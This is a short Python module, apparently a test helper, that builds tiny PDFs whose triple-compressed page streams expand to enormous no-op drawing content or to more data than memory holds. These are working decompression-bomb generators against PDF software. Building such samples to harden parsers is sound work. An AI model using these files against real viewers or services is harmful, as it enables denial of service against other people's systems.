"""Malicious PDFs."""

import zlib


def page(contents: bytes, filters: str) -> bytes:
    """Return a PDF of one page with these compressed contents."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>",
        b"<</Filter[%s]/Length %d>>stream\n%s\nendstream" % (filters.encode(), len(contents), contents),
    ]
    out, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj%s endobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    head = b"xref\n0 5\n0000000000 65535 f \n%strailer<</Size 5/Root 1 0 R>>\nstartxref\n" % table
    return out + head + b"%d\n%%%%EOF" % len(out)


def packed(content: bytes, times: int) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    return content


def endless(size: int) -> bytes:
    """Return a PDF of a few hundred bytes whose page draws `size` bytes of nothing."""
    return page(packed(b"q Q " * (size // 4), 3), "/FlateDecode" * 3)


def huge(size: int) -> bytes:
    """Return a small PDF whose page unpacks to more than the available memory."""
    return page(packed(packed(b"\0" * size, 1), 2), "/FlateDecode" * 3)
